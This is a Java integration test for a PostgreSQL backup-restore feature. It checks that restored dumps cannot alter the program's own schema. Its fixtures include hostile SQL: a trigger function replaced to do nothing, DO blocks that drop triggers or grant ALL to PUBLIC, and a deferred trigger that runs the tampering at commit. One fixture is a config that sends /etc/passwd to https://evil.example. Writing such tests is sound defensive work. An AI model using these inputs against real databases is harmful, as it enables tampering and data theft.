package org.datawarp.workflow.backup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;
import org.datawarp.model.RunListener;
import org.datawarp.model.error.RefusedException;
import org.datawarp.platform.dump.DumpListener;
import org.datawarp.platform.dump.DumpScope;
import org.datawarp.platform.dump.DumpSnapshot;
import org.datawarp.platform.dump.DumpWriter;
import org.datawarp.platform.postgres.Database;
import org.datawarp.platform.postgres.DatabaseSettings;
import org.datawarp.testing.PostgresExtension;
import org.flywaydb.core.Flyway;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Schema datawarp comes from the program, whoever restores, and belongs to a role of few rights.
 */
class RestoredSchemaIT extends BackupFixture {
  private static final String CSV = "Region,Patients\nNorth,1\nSouth,2\n";
  private static final String EVIL =
      "CREATE OR REPLACE FUNCTION datawarp.fn_source_deleted() RETURNS trigger LANGUAGE plpgsql AS"
          + " 'BEGIN RETURN NULL; /* evil */ END'";

  @Test
  void itsDefinitionComesFromTheProgramAndWhatElseWasThereIsNamed() throws IOException {
    Machine found = newMachine("found");

    RestoreOutcome outcome =
        restore(
            found,
            EVIL
                + ";\nCREATE TABLE datawarp.mine (x int);\nCOPY datawarp.mine (x) FROM stdin;\n1\n\\.\n"
                + "CREATE TRIGGER mine BEFORE INSERT ON datawarp.tbl_runs FOR EACH ROW EXECUTE"
                + " FUNCTION staging.f();\n"
                + "ALTER TABLE ONLY datawarp.tbl_runs ADD CONSTRAINT mine_too CHECK (pid > 0);\n"
                + "GRANT ALL ON TABLE datawarp.tbl_runs TO PUBLIC;\n");

    assertThat(outcome.leftOut())
        .containsExactly(
            "CREATE TABLE datawarp.mine (x int) (schema datawarp comes from the program)",
            "the 1 rows of table datawarp.mine (schema datawarp comes from the program)",
            "CREATE TRIGGER mine BEFORE INSERT ON datawarp.tbl_runs FOR E… (schema datawarp comes"
                + " from the program)",
            "ALTER TABLE ONLY datawarp.tbl_runs ADD CONSTRAINT mine_too C… (schema datawarp comes"
                + " from the program)",
            "GRANT ALL ON TABLE datawarp.tbl_runs TO PUBLIC (schema datawarp comes from the"
                + " program)");
    assertThat(
            found.query(
                "SELECT count(*) FROM pg_proc WHERE pronamespace = 'datawarp'::regnamespace AND"
                    + " prosrc LIKE '%evil%'"))
        .containsExactly("0");
    assertThat(found.query("SELECT code FROM datawarp.tbl_data_sources"))
        .containsExactly("adhd_aug25");
    PostgresExtension.execute(found.settings, "DELETE FROM datawarp.tbl_data_sources");
    assertThat(found.query("SELECT original_name FROM datawarp.tbl_trashed_tables"))
        .containsExactly("tbl_adhd_aug25");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DO $x$ BEGIN EXECUTE $y$" + EVIL + "$y$; END $x$;",
        "DO $x$ BEGIN DROP TRIGGER tr_source_deleted ON datawarp.tbl_data_sources; END $x$;",
        "DO $x$ BEGIN GRANT ALL ON datawarp.tbl_runs TO PUBLIC; END $x$;",
        "CREATE TABLE staging.child () INHERITS (datawarp.tbl_runs);",
        // Put off until the commit.
        "CREATE TABLE staging.late (x int); CREATE FUNCTION staging.late() RETURNS trigger LANGUAGE"
            + " plpgsql AS $z$ BEGIN EXECUTE $y$"
            + EVIL
            + "$y$; RETURN NULL; END $z$; CREATE CONSTRAINT TRIGGER late AFTER INSERT ON"
            + " staging.late DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION"
            + " staging.late(); INSERT INTO staging.late VALUES (1);"
      })
  void aDumpThatChangesItAllTheSameIsRefusedAndNothingStays(String sql) throws IOException {
    Machine found = newMachine("found");

    assertThatThrownBy(() -> restore(found, sql + "\n"))
        .isInstanceOf(RefusedException.class)
        .hasMessageContaining(" changes schema datawarp itself: ");
    assertThat(
            found.query("SELECT nspname FROM pg_namespace WHERE nspname IN ('datawarp','staging')"))
        .isEmpty();
  }

  @Test
  void aColumnThatThePersonAddedIsNamedAndTheRowsAreThere() throws IOException {
    Machine here = machine("here");
    here.load("adhd_aug25", CSV);
    PostgresExtension.execute(
        here.settings,
        "ALTER TABLE datawarp.tbl_data_sources ADD COLUMN note text DEFAULT 'a'",
        "CREATE POLICY theirs ON datawarp.tbl_runs USING (true)");
    StoredBackup backup = here.create();
    Machine found = newMachine("found");

    RestoreOutcome outcome =
        found
            .backup()
            .restore(restoreRequest(here.file(backup).toString(), null), RunListener.SILENT);

    assertThat(outcome.leftOut())
        .contains("column datawarp.tbl_data_sources.note (schema datawarp comes from the program)");
    assertThat(found.query("SELECT code FROM datawarp.tbl_data_sources"))
        .containsExactly("adhd_aug25");
  }

  @Test
  void anOlderSchemaIsMadeAsItWasAndThenBroughtUpToDate() throws Exception {
    DatabaseSettings old = PostgresExtension.ownedDatabase();
    ByteArrayOutputStream dump = new ByteArrayOutputStream();
    try (Database database = open(String.valueOf(old.url()))) {
      Flyway.configure()
          .dataSource(database.pooled())
          .locations("classpath:migrations")
          .schemas("datawarp")
          .target("6")
          .load()
          .migrate();
      PostgresExtension.execute(
          old,
          "INSERT INTO datawarp.tbl_data_sources (code, name, table_name) VALUES ('a', 'A',"
              + " 'tbl_a')");
      try (Connection connection = database.open();
          DumpSnapshot snapshot =
              DumpSnapshot.open(
                  connection, DumpScope.withAlso(List.of()), clock, Duration.ofSeconds(1))) {
        new DumpWriter().write(snapshot, dump, DumpListener.SILENT);
      }
    }
    Path file = folder.resolve("old.sql.gz");
    Files.write(file, BackupWorkflowIT.packed(dump.toString()));
    Machine found = newMachine("found");

    RestoreOutcome outcome =
        found.backup().restore(restoreRequest(file.toString(), null), RunListener.SILENT);

    assertThat(outcome.leftOut()).isEmpty();
    assertThat(found.query("SELECT code FROM datawarp.tbl_data_sources")).containsExactly("a");
    assertThat(found.query("SELECT to_regclass('datawarp.tbl_backups')::text"))
        .containsExactly("datawarp.tbl_backups");
  }

  @Test
  void aSuperuserRestoresAsARoleThatIsMadeAndIsLockedOutAfterwards() throws IOException {
    DatabaseSettings target = PostgresExtension.freshDatabase();

    RestoreOutcome outcome = restore(new Machine("found", target), "");

    String role = java.util.Objects.requireNonNull(outcome.owner());
    Machine found = new Machine("again", target);
    assertThat(
            found.query(
                "SELECT DISTINCT pg_get_userbyid(relowner)::text FROM pg_class WHERE"
                    + " relnamespace IN ('datawarp'::regnamespace, 'staging'::regnamespace)"))
        .containsExactly(role);
    assertThat(
            found.query(
                "SELECT concat_ws('|', rolsuper, rolcreaterole, rolcreatedb, rolcanlogin) FROM"
                    + " pg_roles WHERE rolname = '"
                    + role
                    + "'"))
        .containsExactly("f|f|f|f");
    assertThatThrownBy(found.database::requireSchema)
        .isInstanceOf(RefusedException.class)
        .hasMessageStartingWith("this database was restored and belongs to role " + role);
    PostgresExtension.execute(target, "ALTER ROLE " + role + " LOGIN PASSWORD 'x'");
    try (Database own = found.database.as(role, "x")) {
      own.requireSchema();
    }
  }

  @Test
  void aRoleThatMayDoMoreAndCannotMakeAnotherIsRefusedWithTheSql() throws SQLException {
    DatabaseSettings target = PostgresExtension.freshDatabase();
    String role = "maker_" + System.nanoTime();
    PostgresExtension.execute(
        target,
        "CREATE ROLE " + role + " LOGIN PASSWORD 'x' CREATEDB",
        "GRANT pg_read_server_files TO " + role);
    Machine machine = new Machine("here", target);
    String url;
    try (Database as = machine.database.as(role, "x");
        Connection connection = as.open()) {
      url = connection.getMetaData().getUserName();
    }
    String into = target.url() + (String.valueOf(target.url()).contains("?") ? "&" : "?");

    assertThatThrownBy(() -> restore(machine, "", into + "user=" + url + "&password=x"))
        .isInstanceOfSatisfying(
            RefusedException.class,
            refused -> {
              assertThat(refused)
                  .hasMessageStartingWith(
                      "the database's role may make databases, is a member of"
                          + " pg_read_server_files and cannot make another");
              assertThat(refused.hint())
                  .contains("CREATE ROLE datawarp LOGIN", "GRANT CREATE, CONNECT, TEMPORARY ON");
            });
    PostgresExtension.execute(target, "DROP ROLE " + role);
  }

  @Test
  void configurationThatCameWithABackupWaitsForAPerson() {
    Machine here = machine("here");
    here.load("adhd_aug25", CSV);
    write(
        here.workspace.state().resolve("sync.yaml"),
        "cloud:\n  bucket: b\n  endpoint: https://evil.example\n  access_key_id: ${file:/etc/passwd}\n");
    StoredBackup backup = here.create();
    Machine found = newMachine("found");

    RestoreOutcome outcome =
        found
            .backup()
            .restore(restoreRequest(here.file(backup).toString(), null), RunListener.SILENT);

    assertThat(outcome.configuration()).containsExactly(".datawarp/sync.yaml.restored");
    assertThat(found.workspace.state().resolve("sync.yaml")).doesNotExist();
    assertThat(found.workspace.state().resolve("sync.yaml.restored"))
        .content()
        .contains("https://evil.example");
  }

  private RestoreOutcome restore(Machine found, String sql) throws IOException {
    return restore(found, sql, null);
  }

  /** Restores a real backup with some more SQL at its end. */
  private RestoreOutcome restore(
      Machine found, String sql, @org.jspecify.annotations.Nullable String into) {
    Machine here = machine("here");
    here.load("adhd_aug25", CSV);
    try {
      String dump = BackupWorkflowIT.text(Files.readAllBytes(here.file(here.create())));
      Path file = folder.resolve("other.sql.gz");
      Files.write(file, BackupWorkflowIT.packed(dump + sql));
      return found
          .backup()
          .restore(
              new BackupRestoreRequest(
                  file.toString(), null, null, into, Duration.ZERO, "backup restore"),
              RunListener.SILENT);
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
